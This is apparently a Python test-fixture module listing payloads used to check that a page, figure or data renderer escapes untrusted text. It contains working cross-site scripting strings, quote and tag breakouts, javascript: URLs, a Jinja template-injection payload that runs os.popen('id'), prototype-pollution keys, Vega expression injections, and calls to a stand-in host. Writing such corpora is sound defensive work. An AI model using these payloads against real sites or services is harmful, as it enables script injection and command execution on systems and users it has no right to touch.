"""Texts that run a script, ask for a file or leave their place where a page, a figure or data take them raw."""

from typing import Final

# What each of them tries: a mark in the window, in the title and on the console, and a request.
RUN: Final = "window.ran=1;document.title='ran';console.log('ran');fetch('https://ran.invalid/')"
FILE: Final = "https://ran.invalid/file"

PAYLOADS: Final = (
    # Scripts and elements that run one.
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</SCRIPT ><ScRiPt>{RUN}</sCrIpT>",
    f"<script src={FILE}.js></script>",
    f"<script type=module>{RUN}</script>",
    f"<!--<script>{RUN}</script>-->",
    f"--><script>{RUN}</script><!--",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"]]><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</textarea></template><script>{RUN}</script>",
    f"</noscript></table></svg></div><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f'"><img src=x onerror="{RUN}">',
    f"'><img src=x onerror='{RUN.replace(chr(39), '`')}'>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<input autofocus onfocus={RUN}>",
    f"<body onload={RUN}>",
    f"<iframe srcdoc='<script>parent.ran=1;{RUN}</script>'></iframe>",
    f'<iframe src="javascript:parent.ran=1;{RUN}"></iframe>',
    f'<object data="data:text/html,<script>{RUN}</script>"></object>',
    f'<a href="javascript:{RUN}" id=summary>x</a>',
    f'<form action="javascript:{RUN}"><button>x</button></form>',
    f"<template><img src=x onerror={RUN}></template>",
    # Attributes: what breaks out of quotes.
    f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" x="',
    f"' onclick='{RUN.replace(chr(39), '`')}' x='",
    f"x onpointerenter={RUN} style=animation-name:x",
    f"javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    # What asks for a file, or steers where the page goes.
    f"<meta http-equiv=refresh content='0;url={FILE}'>",
    f"<base href={FILE}><link rel=stylesheet href=x.css>",
    f"<img src={FILE}.png>",
    f"<style>@import '{FILE}.css';body{{background:url({FILE}.png)}}</style>",
    f"}}</style><style>*{{background:url({FILE}.png)}}",
    f"url({FILE}.png)",
    FILE,
    f"//{FILE.removeprefix('https://')}",
    # Scripts of data, and templates.
    f'"}}]}}</script><script>{RUN}</script>',
    f"\u2028{RUN}\u2029{RUN}",
    f'\\"</script\t><script>{RUN}</script>',
    f"${{{RUN}}}",
    f"{{{{ cycler.__init__.__globals__.os.popen('id').read() }}}}{{% raw %}}{RUN}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    "__proto__",
    "constructor",
    # Expressions of Vega, and its names of fields and datasets.
    f"'+(({RUN}))+'",
    f"datum['x'],event.view.eval('{RUN}')",
    f"x'];this.constructor.constructor('{RUN}')();//",
    "signal:data('x')",
    "a.b[c]['d']\\.e",
    # Turned, invisible and very long texts.
    f"\u202e<script>{RUN}</script>\u202c",
    f"\ufeff\u200b<script>{RUN}</script>",
    f"\x00<script>{RUN}</script>\x1b]0;ran\x07",
    f"&lt;script&gt;{RUN}&lt;/script&gt;&#x3c;script&#x3e;",
    f"{'<b>' * 200}<script>{RUN}</script>",
)
